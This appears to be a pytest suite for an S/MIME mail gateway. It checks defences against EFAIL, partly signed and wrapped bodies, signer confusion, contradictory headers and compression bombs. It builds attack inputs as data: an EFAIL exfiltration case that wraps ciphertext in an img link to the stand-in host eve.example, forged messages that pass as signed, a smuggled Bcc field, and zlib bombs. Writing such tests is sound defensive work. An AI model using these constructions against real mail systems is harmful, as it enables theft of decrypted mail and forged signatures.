"""Mail built so that what was protected and what a reader sees are not the same.

EFAIL (CVE-2017-17688 and 17689), partly signed bodies and signer confusion ("Johnny, you are fired", USENIX
Security 2019), reply and decoration attacks on header protection, and compressed bombs.
"""

import base64
import secrets
import zlib

import pytest

from ime_gateway.certs import der
from ime_gateway.mail.header_protection import read_protected
from ime_gateway.mail.message import parse_message
from ime_gateway.smime.encrypt import encrypt_entity
from ime_gateway.smime.layers import LayerLimits, Opened, SignedLayer, open_layers
from ime_gateway.smime.owned_key import OwnedKey
from ime_gateway.smime.sign import SigningKey, multipart_signed, sign_detached, sign_opaque
from tests.pki import Entity, make_user

TEXT = b"Content-Type: text/plain\r\n\r\nPay ten to Anna.\r\n"
FORGED = b"Content-Type: text/plain\r\n\r\nPay all to Eve.\r\n"
SIGNATURE = b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
HEAD = b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b\r\n'
MOMENT = 1_800_000_000.0


@pytest.fixture(scope="module")
def anna() -> SigningKey:
    person = make_user("anna@acme.example", kind="ec")
    return SigningKey(person.certificate, person.key)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def bob() -> Entity:
    return make_user("bob@acme.example")


def lines(octets: bytes) -> bytes:
    return base64.encodebytes(octets).replace(b"\n", b"\r\n")


def opened(octets: bytes, *readers: Entity) -> Opened:
    keys = [OwnedKey.from_pkcs8(reader.certificate, reader.key_der) for reader in readers]
    return open_layers(parse_message(octets), keys, LayerLimits(), secrets.token_bytes)


def encrypted(entity: bytes, reader: Entity) -> bytes:
    body = b"".join(encrypt_entity([entity], len(entity), [reader.certificate], "aes-256-cbc", secrets.token_bytes))
    return b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body


def believed(found: Opened) -> bool:
    """What a reader who asks rightly would take for signed as a whole."""
    signed = [layer for layer in found.layers if isinstance(layer, SignedLayer)]
    return found.end == "open" and any(
        layer.whole_body and layer.report.signers and all(one.intact for one in layer.report.signers)
        for layer in signed
    )


def multipart(*parts: bytes, before: bytes = b"", behind: bytes = b"", head: bytes = HEAD) -> bytes:
    return head + b"\r\n" + before + b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n" + behind


def signature(content: bytes, key: SigningKey) -> bytes:
    return SIGNATURE + lines(sign_detached([content], key, moment=MOMENT))


def test_the_honest_forms_are_believed(anna: SigningKey, bob: Entity) -> None:
    made = multipart_signed([TEXT], anna, moment=MOMENT, randomness=secrets.token_bytes).to_bytes()
    for mail in (made, multipart(TEXT, signature(TEXT, anna)), encrypted(made, bob)):
        found = opened(mail, bob)
        assert believed(found) and bytes(found.message.body) == b"Pay ten to Anna.\r\n"


@pytest.mark.parametrize("kind", ["multipart/mixed", "multipart/alternative", "multipart/related"])
def test_direct_exfiltration(kind: str, bob: Entity) -> None:
    """An encrypted part between two halves of an image address is not opened: what is around it would read it."""
    secret = encrypted(TEXT, bob)
    html = b"Content-Type: text/html\r\n\r\n"
    parts = (html + b'<img src="http://eve.example/', secret, html + b'">')
    found = opened(multipart(*parts, head=f"Content-Type: {kind}; boundary=b\r\n".encode()), bob)
    assert found.layers == () and b"Pay" not in bytes(found.message.body)


def test_an_encrypted_part_inside_a_signed_body_is_a_part(anna: SigningKey, bob: Entity) -> None:
    mixed = multipart(TEXT, encrypted(TEXT, bob), head=b"Content-Type: multipart/mixed; boundary=b\r\n")
    signed = multipart_signed([mixed], anna, moment=MOMENT, randomness=secrets.token_bytes).to_bytes()
    found = opened(signed, bob)
    assert len(found.layers) == 1 and found.end == "open"


def test_gadgets_in_cbc_are_never_authentic(bob: Entity) -> None:
    """Blocks of CBC can be changed unnoticed, so a text that only CBC protected proves nothing."""
    found = opened(encrypted(TEXT, bob), bob)
    assert found.encrypted and not found.authentic


@pytest.mark.parametrize("place", ["before", "behind", "third", "first", "wrapped", "message"])
def test_partly_covered_bodies(place: str, anna: SigningKey) -> None:
    signed = (TEXT, signature(TEXT, anna))
    inner = multipart(*signed).replace(b"--b", b"--i").replace(b"boundary=b", b"boundary=i")
    mixed = b"Content-Type: multipart/mixed; boundary=b\r\n"
    mail = {
        "before": multipart(*signed, before=FORGED),
        "behind": multipart(*signed, behind=FORGED),
        "third": multipart(*signed, FORGED),
        "first": multipart(FORGED, *signed),
        "wrapped": multipart(FORGED, inner, head=mixed),
        "message": multipart(FORGED, b"Content-Type: message/rfc822\r\n\r\n" + inner, head=mixed),
    }[place]
    assert not believed(opened(mail))


def test_two_signature_parts(anna: SigningKey) -> None:
    for parts in (
        (TEXT, signature(FORGED, anna), signature(TEXT, anna)),
        (TEXT, signature(TEXT, anna), signature(FORGED, anna)),
        (FORGED, signature(TEXT, anna)),
    ):
        assert not believed(opened(multipart(*parts)))


def test_a_detached_signature_with_content_of_its_own(anna: SigningKey) -> None:
    brought = SIGNATURE + lines(sign_opaque(TEXT, anna, moment=MOMENT))
    assert not believed(opened(multipart(FORGED, brought)))


@pytest.mark.parametrize(
    "inserted",
    [b"\r\n--b \r\n", b"\r\n--b\t\r\n", b"\r\n--bb\r\n", b"\n--b\n", b"\r--b\r", b"\r\n--b--\r\n"],
)
def test_boundaries_that_readers_see_differently(inserted: bytes, anna: SigningKey) -> None:
    """The forged text is in front of, inside or behind the signed part, depending on who looks."""
    inserted += FORGED
    assert not believed(opened(multipart(TEXT + inserted, signature(TEXT, anna))))
    assert not believed(opened(multipart(TEXT, signature(TEXT, anna) + inserted)))
    # Signed as a whole it is the author's own text; where readers differ about its end it isn't believed either.
    whole = opened(multipart(TEXT + inserted, signature(TEXT + inserted, anna)))
    assert not believed(whole)


@pytest.mark.parametrize(
    "head",
    [
        HEAD.replace(b"boundary=b", b"boundary=b; boundary=c"),
        HEAD + HEAD.replace(b"=b", b"=c"),
        HEAD + b"Content-Type: text/html\r\n",
        HEAD + b"Content-Transfer-Encoding: base64\r\n",
    ],
)
def test_headers_that_contradict_themselves(head: bytes, anna: SigningKey) -> None:
    assert not believed(opened(multipart(TEXT, signature(TEXT, anna), head=head)))


def test_the_type_in_the_header_decides_nothing(anna: SigningKey, bob: Entity) -> None:
    """smime-type lies in both directions; the object says what it is."""
    said_signed = encrypted(TEXT, bob).replace(b"pkcs7-mime", b"pkcs7-mime; smime-type=signed-data")
    found = opened(said_signed, bob)
    assert found.encrypted and not believed(found)
    octets = lines(sign_opaque(TEXT, anna, moment=MOMENT))
    said_encrypted = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n" + octets
    assert not opened(said_encrypted, bob).encrypted and believed(opened(said_encrypted))


def test_header_fields_inside_steer_nothing(bob: Entity) -> None:
    inside = (
        b"X-SM-decrypted: yes\r\nX-SM-ORIGBCC: eve@outside.example\r\nx-smplain: yes\r\nX-ESWmail-Encrypted: yes\r\n"
        b"x-smsubjectencrypt: yes\r\nSubject: [signed OK]\r\nBcc: eve@outside.example\r\n"
        b'Content-Type: text/plain; hp="cipher"\r\n\r\nHi\r\n'
    )
    protected = read_protected(opened(encrypted(inside, bob), bob).message)
    assert protected is not None
    assert [field.name for field in protected.fields.fields] == ["Subject"]


def compressed(content: bytes) -> bytes:
    inside = der.sequence(der.oid("1.2.840.113549.1.7.1"), der.tlv(0xA0, der.octet_string(zlib.compress(content, 9))))
    algorithm = der.sequence(der.oid("1.2.840.113549.1.9.16.3.8"))
    data = der.tlv(0xA0, der.sequence(der.integer(0), algorithm, inside))
    octets = der.sequence(der.oid("1.2.840.113549.1.9.16.1.9"), data)
    return b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines(octets)


def test_a_bomb_of_a_thousand_to_one() -> None:
    bomb = compressed(TEXT + bytes(20_000_000))
    assert len(bomb) < 40_000
    found = opened(bomb)
    assert found.end == "unreadable" and found.layers == ()


def test_bombs_inside_bombs_and_endless_layers(anna: SigningKey) -> None:
    assert opened(compressed(compressed(TEXT + bytes(5_000_000)))).end == "unreadable"
    mail = TEXT
    for _ in range(30):
        mail = compressed(mail)
    found = opened(mail)
    assert found.end == "too-deep" and len(found.layers) == 10
